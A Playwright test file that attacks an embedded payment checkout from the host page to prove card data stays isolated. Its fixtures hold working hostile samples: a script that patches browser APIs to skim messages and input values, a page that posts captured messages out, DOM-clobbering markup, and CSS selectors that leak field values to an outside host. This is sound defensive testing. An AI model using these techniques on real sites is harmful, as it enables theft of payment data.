import { goodCard } from '../support/pages.ts'
import { expect, test } from '../support/hostile.ts'

/* What a script or a style in the merchant's page can try with the checkout. Each test sees first that its weapon is loaded. */

const canary = { ...goodCard, number: '4012000033330026', expiry: '0931', securityCode: '907', name: 'Ximena Quesada' }

/** Everything that a script in the page can lay its hands on, heard by what it has put in the place of the browser's own. */
const wiretap = `
  loot = []
  const keep = (...values) => { for (const value of values) try { loot.push(typeof value === 'string' ? value : stringify(value)) } catch { /* a window */ } }
  const { stringify } = JSON
  const tap = (object, name) => {
    const real = object[name]
    object[name] = function (...given) { keep(name, ...given); const result = Reflect.apply(real, this, given); keep(result); return result }
  }
  for (const name of ['stringify', 'parse']) tap(JSON, name)
  tap(globalThis, 'fetch')
  for (const name of ['json', 'text']) {
    const real = Response.prototype[name]
    Response.prototype[name] = async function () { const value = await real.call(this); keep(value); return value }
  }
  tap(MessagePort.prototype, 'postMessage')
  tap(EventTarget.prototype, 'dispatchEvent')
  for (const type of ['keydown', 'input', 'change', 'paste', 'message', 'submit', 'complete']) addEventListener(type, event => keep(type, event.key, event.data, event.detail), true)
  const { get } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')
  Object.defineProperty(HTMLInputElement.prototype, 'value', { get() { const value = get.call(this); keep(value); return value } })
  const Real = MessageChannel
  MessageChannel = function () {
    // a man in the middle: what the component and the frame say to each other goes through here
    const [near, far] = [new Real(), new Real()]
    near.port2.onmessage = ({ data }) => { keep('to the frame', data); far.port1.postMessage(data) }
    far.port1.onmessage = ({ data }) => { keep('from the frame', data); near.port2.postMessage(data) }
    return { port1: near.port1, port2: far.port2 }
  }
  const { get: windowOf } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow')
  Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', { get() {
    const real = windowOf.call(this)
    return real && { postMessage: (message, target, ports) => { keep('init', message); real.postMessage(message, target, ports) } }
  } })`

test('patched postMessage, MessageChannel, JSON and fetch hear secrets of the session, and no digit of the card', async ({ page, sites, checkout, merchant }) => {
  const session = await merchant.open()
  await page.goto(sites.onShop('patched', `<script>${wiretap}</script>${sites.checkout(session)}`))
  await checkout.pay(canary)
  await expect(checkout.element.getByRole('heading', { level: 2 })).toBeVisible()
  await expect.poll(() => merchant.payments(session)).toEqual(['captured'])
  const loot = await page.evaluate(() => (window as unknown as { loot: string[] }).loot.join('\n'))
  for (const heard of [/ft_\w/, /tok_\w/, /cs_\w+_secret_/, /from the frame/, /to the frame/, /"last4":"0026"/]) expect(loot, 'the patches work').toMatch(heard)
  for (const secret of [canary.number, '4012 0000 3333 0026', '401200', '33330026', canary.name, '"907"', '09 / 31']) expect(loot).not.toContain(secret)
})

test('a frame that is led away while it is typed into takes nothing along, and comes back empty', async ({ page, sites, checkout, merchant, demo }) => {
  const session = await merchant.open()
  const away = sites.onStranger('away', `<script>onmessage = ({ data }) => fetch('/heard', { method: 'POST', body: JSON.stringify(data) })</script>`)
  await page.goto(sites.onShop('navigated', sites.checkout(session)))
  await checkout.fill(canary)
  const home = (await checkout.frame()).url()
  const confirms: string[] = []
  page.on('request', (request) => { if (request.url().endsWith('/confirm')) confirms.push(request.url()) })
  const go = (url: string): Promise<void> => page.evaluate((to) => {
    (document.querySelector('holdfast-checkout')!.shadowRoot!.querySelector('iframe')!.contentWindow as Window).location.href = to
  }, url)
  await go(away)
  await expect.poll(() => page.frames().some((frame) => frame.url() === away), 'the frame is led away').toBe(true)
  await page.evaluate(() => document.querySelector('holdfast-checkout')!.shadowRoot!.querySelector('iframe')!.contentWindow!.postMessage('control', '*'))
  await expect.poll(() => sites.reached.filter((one) => one.includes('/heard')), 'what is there hears messages').toEqual(['/heard "control"'])
  await expect(checkout.payButton).toHaveAttribute('aria-disabled', 'true')
  await checkout.payButton.click({ force: true })
  await go(home)
  const frame = await checkout.frame()
  await expect(checkout.payButton).toHaveAttribute('aria-disabled', 'false')
  expect(await frame.getByRole('textbox').evaluateAll((fields) => fields.map((field) => (field as HTMLInputElement).value))).toEqual(['', '', '', ''])
  expect(sites.reached.join()).not.toMatch(/ft_|cs_|4012|init/)
  expect(confirms).toEqual([])
  await checkout.pay(goodCard)
  await expect.poll(() => merchant.payments(session)).toEqual(['captured'])
  expect(demo.process.logs()).not.toContain(canary.number)
})

test('elements that take the names of the browser’s own move no address of the loader', async ({ page, sites, checkout, merchant }) => {
  const session = await merchant.open()
  const evil = `${sites.stranger}/`
  const ids = ['holdfast', 'Holdfast', 'HOLDFAST', 'config', 'apiUrl', 'defaultApiUrl', 'chunksUrl', 'customElements', 'trustedTypes', 'navigator', 'crypto', 'fetch', 'URL']
  const names = ['currentScript', 'scripts', 'baseURI', 'URL', 'documentURI', 'head', 'body', 'documentElement', 'hidden', 'activeElement', 'cookie', 'referrer', 'styleSheets', 'adoptedStyleSheets']
  const clobber = ids.map((id) => `<a id="${id}" href="${evil}${id}"></a><a id="${id}" name="url" href="${evil}${id}"></a>`).join('')
    + names.map((name) => `<form name="${name}" action="${evil}${name}"><input name="src" value="${evil}"><input name="href" value="${evil}"></form>`).join('')
  await page.goto(sites.onShop('clobbered', `${clobber}${sites.checkout(session, 'locale="de"')}<base href="${evil}">`))
  expect(await page.evaluate(() => [document.currentScript, document.head, document.baseURI].map(String)), 'the names are taken').toEqual(Array(3).fill('[object HTMLFormElement]'))
  await expect(checkout.element.getByRole('button', { name: /zahlen|bezahlen/i })).toBeVisible()
  await checkout.fill(canary)
  await checkout.element.getByRole('button', { name: /zahlen|bezahlen/i }).click()
  await expect.poll(() => merchant.payments(session)).toEqual(['captured'])
  expect(sites.reached).toEqual([])
})

test('where elements take the very functions that draw, nothing is drawn, and nothing told', async ({ page, sites, merchant }) => {
  const session = await merchant.open()
  const names = ['createElement', 'createTreeWalker', 'importNode', 'createComment', 'createTextNode', 'addEventListener', 'querySelector']
  await page.goto(sites.onShop('clobbered', names.map((name) => `<img name="${name}" src="${sites.stranger}/x">`).join('') + sites.checkout(session)))
  expect(await page.evaluate(() => String(document.createElement))).toBe('[object HTMLImageElement]')
  const sent: string[] = []
  page.on('request', (request) => { if (request.url().startsWith(sites.stranger)) sent.push(JSON.stringify([request.url(), request.headers(), request.postData()])) })
  await page.waitForLoadState('networkidle')
  expect(page.frames()).toHaveLength(1)
  expect(sent.join()).not.toContain('cs_')
})

test('styles carry nothing of a card out of the page', async ({ page, sites, checkout, merchant }) => {
  const session = await merchant.open()
  const url = (name: string): string => `url(${sites.stranger}/${name})`
  const rules = ['input', 'iframe', '::part(card-frame)', 'holdfast-checkout', '*'].map((selector, at) =>
    [4, 40, 401].map((start) => `${selector}[value^="${start}"] { background: ${url(`value-${at}-${start}`)} }`).join('')).join('')
  const custom = ['text', 'background', 'border', 'quiet', 'error', 'focus'].map((name) => `--holdfast-color-${name}: ${url(`custom-${name}`)};`).join('')
  const appearance = JSON.stringify({ variables: { colorText: url('token'), colorBackground: `red;background:${url('token-2')}`, fontFamily: `x;src:${url('font')}`, fontSizePx: '1px;', opacity: 0 } })
  await page.goto(sites.onShop('styled', `<style>${rules} holdfast-checkout { ${custom} } @font-face { font-family: spy; src: ${url('spied')}; unicode-range: U+34 } .spy { font-family: spy }</style>
    <input id="own" value="4012"><p class="spy">4</p>${sites.checkout(session, `appearance='${appearance}'`)}`))
  await expect.poll(() => sites.reached, 'a style does tell of the page’s own field').toContain('/value-0-401')
  await checkout.frame()
  const before = new Set(sites.reached)
  await checkout.fill(canary)
  const frame = await checkout.frame()
  const { color, fontSize, opacity, fontFamily } = await frame.locator('[autocomplete="cc-number"]').evaluate((field) => ({ ...getComputedStyle(field) }))
  expect({ color, fontSize, opacity, fontFamily }).toEqual({ color: 'rgb(14, 27, 38)', fontSize: '16px', opacity: '1', fontFamily: 'system-ui, sans-serif' })
  await checkout.payButton.click()
  await expect.poll(() => merchant.payments(session)).toEqual(['captured'])
  expect(new Set(sites.reached), 'typing and paying tell nothing').toEqual(before)
})

test('a reload while the payment is under way, and going back after it, pay no second time', async ({ page, shop, checkout, order, demo, merchant }) => {
  await shop.fillCart()
  await shop.goToPayment()
  const payment = page.url()
  await checkout.fill(canary)
  let confirms = 0
  await page.route(`${demo.api}/v1/checkout/confirm`, async (route) => {
    confirms += 1
    await route.fetch().catch(() => undefined)
    // the answer never comes: the page is gone
  })
  await checkout.payButton.click()
  await expect.poll(() => confirms).toBe(1)
  const id = payment.split('/').at(-1)!
  await expect.poll(async () => (await merchant.payments(await merchant.holdfast.sessions.retrieve(id))).length).toBe(1)
  await page.reload()
  await page.waitForURL(/\/orders\/ord_/)
  await order.expectTotals({ Held: 'USD 8,736.00' })
  await page.goBack()
  await page.goto(payment)
  await page.waitForURL(/\/orders\/ord_/)
  expect(confirms).toBe(1)
  expect(await merchant.payments(await merchant.holdfast.sessions.retrieve(id))).toEqual(['captured'])
})
